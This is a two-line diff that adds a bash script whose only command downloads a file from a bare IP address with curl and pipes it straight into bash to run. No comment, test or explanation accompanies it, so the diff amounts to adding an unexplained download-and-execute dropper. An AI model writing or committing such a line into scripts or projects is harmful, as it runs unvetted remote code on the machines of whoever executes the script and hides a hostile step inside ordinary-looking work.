@@ -1,0 +1,2 @@
+#!/bin/bash
+curl http://198.51.100.7/x | bash
